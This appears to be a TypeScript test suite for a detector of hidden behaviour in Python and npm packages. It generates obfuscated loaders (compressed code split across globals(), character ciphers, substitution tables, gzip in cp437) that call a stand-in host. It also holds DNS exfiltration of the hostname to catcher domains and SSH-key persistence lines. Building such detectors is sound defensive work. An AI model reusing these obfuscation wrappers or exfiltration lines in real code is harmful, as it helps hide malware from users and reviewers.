/** Code that Python programs carry in disguise: what it does comes out, whatever way it is wrapped. */
import assert from 'node:assert/strict';
import { deflateSync, gzipSync } from 'node:zlib';
import { buildSequence } from '../../lib/behavior/sequence.js';
import { artifactOf, behaviorsOf, importEntry } from '../helpers/sequence.js';
import { expectBehaviors, sequenceOf, wordsOf } from './python-sequence-helper.js';

const PAYLOAD = "import urllib.request\nurllib.request.urlopen('http://collect.invalid/x')\n";
const SEEN = 'http-request hidden to:http to:other';

const bytesLiteral = (data: Uint8Array): string =>
  `b'${[...data].map((b) => `\\x${b.toString(16).padStart(2, '0')}`).join('')}'`;
const escaped = (text: string): string =>
  [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');

/** A class of meaningless arithmetic; the code in two pieces in `globals()`, which `from builtins import *` fills. */
function arithmeticClass(code: string): string {
  const data = deflateSync(code);
  const evaluated = `(lambda v:globals()['${escaped('eval')}'](globals()['${escaped('compile')}'](globals()['${escaped('str')}']("${escaped("globals()['eval']")}(v)"),filename='x',mode='${escaped('eval')}')))`;
  return `
from builtins import *
from math import prod as Multiply

Run, Text, Tup, Each, Code, Names, Kind = exec, str, tuple, map, ord, globals, type

class Absolute:
    def __init__(self, square):
        self.memory = Multiply((square, -87446))
        self.loop(run=46845)
    def loop(self, run = int):
        self.memory /= -53767 * run
        try:
            (({Each: Unset}, Run) for Run in {Code: Unset})
        except AssertionError:
            ((Each, (Unset, Text)) for Each in {Run: Run} if Text != Names)
        except:
            Kind(72309 / -43766) == Ellipsis
    def Read(Name = False):
        return Names()[Name]
    def Keep(key = -46981 / 37941, Floor = float, frame = Names):
        frame()[key] = Floor
    def execute(code = str):
        return Run(Text(Tup(Each(Code, code))))

if __name__ == '__main__':
    try:
        Absolute.execute(code = 'print("Hello")')
        thing = Absolute(square = 9579 * 1461)
        if 139858 > 9894067:
            thing.loop(run = -10719 - thing.memory)
        elif 448194 < 1426449:
            thing.loop(run = 61734 * thing.memory) ;Absolute.Keep(key='wwx',Floor=${bytesLiteral(data.subarray(0, 30))})
        thing.loop(run = thing.memory / 48286) ;Absolute.Keep(key='IJI',Floor=${bytesLiteral(data.subarray(30))})
        a,b,c,d,e=(lambda v:v(__import__('${escaped('zlib')}'))),(lambda v:v['${escaped('decompress')}']),${evaluated},(lambda:${evaluated}('${escaped("__import__('builtins').exec")}')),(lambda f,v:f(v))
        d()(e(b(a(c('${escaped('vars')}'))),Absolute.Read(Name='wwx')+Absolute.Read(Name='IJI')))
    except Exception as Unset:
        if 194710 > 1941840:
            Absolute.execute(code = Text(Unset))
`;
}

/** One class whose `__init__` maps every character, names spelt by an alphabet, the result shown as a list. */
function perCharacterClass(code: string): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz0123456789';
  const word = (text: string): string =>
    [...text].map((c) => `self.letters[${alphabet.indexOf(c)}]`).join('+');
  const data = [...code]
    .map((c) => (alphabet.includes(c) ? alphabet.at(alphabet.indexOf(c) - 1)! : c))
    .map((c) =>
      Buffer.from(c === '\n' ? 'ζ' : String.fromCodePoint(c.charCodeAt(0) + 84335)).toString('hex'),
    );
  return `class Wrapper():
 def __call(self:object,code:str)->exec:return(None,self.run(code))[0]
 def __init__(self:object,key:float=False,at:int=0,*bits:float,**given:int)->exec:
  self.decode,given[at],key,self.bit,self.run,self.letters=lambda text:"".join(__import__(${word('binascii')}).unhexlify(str(part)).decode()for part in str(text).split('/')),eval,lambda key:exit()if ${word('print')} in open(__file__, errors=${word('ignore')}).read()else"".join(key if key not in self.letters else self.letters[self.letters.index(key)+1 if self.letters.index(key)+1<len(self.letters)else 0]for key in "".join(chr(ord(t)-84335)if t!="ζ"else"\\n"for t in self.decode(key))),lambda key:str(given[at](f"{${word('exec')}}(''.join(%s),{${word('globals')}}())"%list(key))).encode('utf8')if given[at]==eval else exit(),lambda other:self.bit(key(other)),exit()if key else'${alphabet}'
  return self.__call(given[(self.letters[-1]+'_')[-1]+${word('data')}])
Wrapper(key=False,at=False,_data='''${data.join('/')}''')
`;
}

/** Every character looked up in a literal table, by a comprehension over both. */
function substitution(code: string): string {
  const from = [
    ...'\n !"#$%&\'()*+,-./0123456789:;<=>?@ABCDEFGHIJKLMNOPQRSTUVWXYZ[]^_`abcdefghijklmnopqrstuvwxyz{|}~',
  ];
  const to = (c: string): string => from[(from.indexOf(c) * 7 + 3) % from.length]!;
  const pairs = from.map((c) => `${JSON.stringify(c)}: ${JSON.stringify(to(c))}`).join(', ');
  const data = Buffer.from([...code].map(to).join('')).toString('base64');
  return `import base64;exec(''.join([y[0] for x in [x for x in base64.b64decode( ('${data}').encode('ascii') ).decode('ascii')] for y in [[x[0], x[1]] for x in {${pairs}}.items()] if x == y[1]]))\n`;
}

/** Names and texts from the letters of builtin functions, statements in the cases of a loop over numbers. */
function numbers(): string {
  const chr =
    'getattr(__builtins__, oct.__str__()[-3 << 0] + hex.__str__()[-1 << 2] + copyright.__str__()[4 << 0])';
  const text = (value: string): string =>
    `''.join(map(${chr}, [${[...value].map((c) => `(${c.charCodeAt(0) >> 1} << 1) + ${c.charCodeAt(0) & 1}`).join(', ')}]))`;
  return `
state = 834*(395 & 643)+865//460-(104 | 469+415) | 104 << 313 << 357 >> (935 | 183) & ~61
while state:
    if state == 5:
        urlopen(${text('http://collect.invalid/x')})
        state = 0
    elif state == 834*(395 & 643)+865//460-(104 | 469+415) | 104 << 313 << 357 >> (935 | 183) & ~61:
        from urllib.request import urlopen
        state = (2 << 1) + 1
`;
}

describe('Python code in layers', () => {
  it('kept in pieces in globals() by a class of arithmetic', async () => {
    await expectBehaviors(arithmeticClass(PAYLOAD), ['decompress', 'evaluate-decoded', SEEN]);
  });
  it('mapped character by character and run by way of its own list', async () => {
    await expectBehaviors(perCharacterClass(PAYLOAD), ['evaluate-decoded', SEEN]);
    // Longer than any text that honest code shows as a list.
    const filler = `# ${'x'.repeat(60)}\n`.repeat(300);
    await expectBehaviors(perCharacterClass(filler + PAYLOAD), ['evaluate-decoded', SEEN]);
  });
  it('substituted over a literal table', async () => {
    await expectBehaviors(substitution(PAYLOAD), ['evaluate-decoded', SEEN]);
  });
  it('substituted, three hundred thousand characters of it, at the end of which something happens', async () => {
    const filler = `# ${'abcdefgh'.repeat(12)}\n`.repeat(3000);
    const sequence = await sequenceOf(substitution(filler + PAYLOAD));
    assert.equal(sequence.incomplete, undefined);
    await expectBehaviors(substitution(filler + PAYLOAD), ['evaluate-decoded', SEEN]);
  });
  it('spelt by the letters of builtin functions', async () => {
    await expectBehaviors(numbers(), ['http-request to:http to:other']);
  });
  it('compressed and written down as the characters of an old code page', async () => {
    const text = new TextDecoder('latin1').decode(gzipSync(PAYLOAD));
    assert.ok(text.length > 0);
    const source = `import gzip\ncode = ${bytesLiteral(gzipSync(PAYLOAD))}.decode('cp437')\nexec(gzip.decompress(code.encode('cp437')).decode())`;
    await expectBehaviors(source, ['decompress', 'evaluate-decoded', SEEN]);
  });
  it('a short expression over the variables of a loop, as text', async () => {
    const key = 7;
    const data = [...'http://collect.invalid/x'].map((c) => c.charCodeAt(0) ^ key);
    const source = `import urllib.request\nout = ''\nfor n in [${data}]:\n    out += eval("chr(n ^ ${key})")\nurllib.request.urlopen(out)`;
    await expectBehaviors(source, ['http-request to:http to:other']);
  });
});

describe('Python names bound by evaluated code', () => {
  const ask = 'u.urlopen(host)';
  const forms: Record<string, string> = {
    'at module level': `exec("import urllib.request as u\\nhost = 'http://a.invalid/'")\n${ask}`,
    'in globals(), from a function': `def f():\n    exec("import urllib.request as u\\nhost = 'http://a.invalid/'", globals())\nf()\n${ask}`,
    'in a dict of its own': `import urllib.request as u\nspace = {}\nexec("host = 'http://a.invalid/'", space)\nu.urlopen(space['host'])`,
    'by globals() inside': `import urllib.request as u\nexec("globals()['host'] = 'http://a.invalid/'")\n${ask}`,
  };
  for (const [name, source] of Object.entries(forms)) {
    it(name, async () => expectBehaviors(source, ['http-request to:http to:other']));
  }
  it('in a function they are not those of the module', async () => {
    const source = `import urllib.request as u\nhost = 'http://a.invalid/'\ndef f():\n    exec("host = 'ftp://b.invalid/'")\nf()\n${ask}`;
    await expectBehaviors(source, ['http-request to:http']);
  });
});

describe('Python limits of what is remembered', () => {
  it('comprehensions without end within comprehensions end', async () => {
    const source = `t = 'abcdefghij' * 20000\nn = [[[z for z in t if z != x] for y in t if y == x] for x in t]\nprint(n)`;
    await sequenceOf(source);
  });
  it('an expression that evaluates itself ends', async () => {
    await sequenceOf(`def f(n):\n    return eval("f(n + 1) + f(n + 2)")\nf(0)`);
    await sequenceOf(`n = 0\nwhile True:\n    n += eval("n + 1")`);
    await sequenceOf(`t = 'eval(t) + eval(t)'\neval(t)`);
  });
  it('what a function with effects gives is asked for each character', async () => {
    const source = `import urllib.request as u\nhosts = list('abc')\nout = [hosts.pop() for c in 'x' * 40]\nu.urlopen('http://' + out[0] + out[1] + out[2] + '.invalid')`;
    await expectBehaviors(source, ['http-request to:http']);
    assert.ok((await sequenceOf(source)).units[0]!.behaviors.some((b) => b.detail === 'http://cba.invalid'));
  });
});

describe('Python disguise: honest twins', () => {
  const twins: Record<string, string> = {
    'a table of letters': `table = {'a': 'b', 'b': 'a'}\nprint(''.join([y[0] for x in 'abab' * 20 for y in [[k, v] for k, v in table.items()] if x == y[1]]))`,
    'a version file': `about = {}\nexec("__version__ = '1.2.3'", about)\nprint(about['__version__'])`,
    'star import of builtins': 'from builtins import *\nprint(str(len(range(3))))',
    'a list in a message': "print('%s' % ['a', 'b'])\nprint('%s, %s' % ('a', 'b'))",
  };
  for (const [name, source] of Object.entries(twins)) {
    it(name, async () => {
      const found = await wordsOf(source);
      assert.ok(
        found.every((line) => line === 'evaluate'),
        found.join('\n'),
      );
    });
  }
});

describe('names looked up, keys that let in', () => {
  it('a host given as bytes, decoded, is hidden and known', async () => {
    const host = Buffer.from('collect.invalid').toString('base64');
    await expectBehaviors(`import base64, socket\nsocket.gethostbyname(base64.b64decode('${host}'))`, [
      'dns-query hidden to:other',
      '!dns-query carries:decoded',
    ]);
    await expectBehaviors("import socket\nsocket.gethostbyname(b'collect.invalid')", [
      'dns-query to:other',
      '!dns-query hidden',
    ]);
  });
  const LABELS: Record<string, string> = {
    'in front of it': "socket.gethostbyname(h + '.x.oast.fun')",
    'as a keyword': "socket.getaddrinfo(host=h + '.x.oast.fun', port=80)",
    'by a format': "socket.gethostbyname('%s.x.oast.fun' % h)",
    'by a format of several': "socket.gethostbyname('%s.%s.oast.fun' % (h, 'x'))",
    'by a format of bytes': "socket.getaddrinfo(b'%s.x.oast.fun' % h.encode(), 80)",
    'as bytes, joined': "socket.gethostbyname(b'.'.join([h.encode(), b'x.oast.fun']))",
    'as bytes, decoded again': "socket.gethostbyname((h.encode() + b'.x.oast.fun').decode('ascii'))",
    'as an international name': "socket.getaddrinfo((h + '.x.oast.fun').encode('idna'), 80)",
  };
  for (const [name, call] of Object.entries(LABELS)) {
    it(`what a host name carries: ${name}`, async () => {
      await expectBehaviors(`import socket\nh = socket.gethostname()\n${call}`, [
        'dns-query carries:host to:catcher',
      ]);
    });
  }
  it('a host name that carries nothing', async () => {
    await expectBehaviors("import socket\nsocket.getaddrinfo(host='%s.invalid' % 'collect', port=80)", [
      'dns-query to:other',
      '!dns-query carries:host',
    ]);
  });
  it('an address with a hole in it keeps its host', async () => {
    await expectBehaviors("import requests\nrequests.get('https://collect.invalid/%s' % input())", [
      'http-request to:other',
    ]);
    await expectBehaviors("import requests\nrequests.get('https://%s/x' % input())", [
      'http-request to:unknown',
    ]);
  });
  it('a text that doubles with holes in it ends', async () => {
    await sequenceOf("x = input() + 'a'\nfor i in range(10**6):\n    x = b'%s%s' % (x.encode(), x.encode())");
  });
  it('authorized_keys written is persistence, read is not', async () => {
    const path = "os.path.expanduser('~/.ssh/authorized_keys')";
    await expectBehaviors(`import os\nopen(${path}, 'a').write('ssh-ed25519 AAAA')`, ['persist-startup']);
    await expectBehaviors("import os\nos.system('echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys')", [
      'persist-startup',
    ]);
    await expectBehaviors(`import os\nprint(open(${path}).read())`, ['read-ssh-keys', '!persist-startup']);
  });
  it('in JavaScript too', async () => {
    const read = async (call: string): Promise<string[]> => {
      const source = `const fs = require('fs');\nconst p = require('os').homedir() + '/.ssh/authorized_keys';\n${call}`;
      const artifact = artifactOf('npm', { 'index.js': source }, [importEntry('index.js')]);
      return behaviorsOf(await buildSequence(artifact, { strict: true })).map(({ code }) => code);
    };
    assert.ok((await read("fs.appendFileSync(p, 'ssh-ed25519 AAAA')")).includes('persist-startup'));
    assert.ok(!(await read('console.log(fs.readFileSync(p))')).includes('persist-startup'));
  });
});
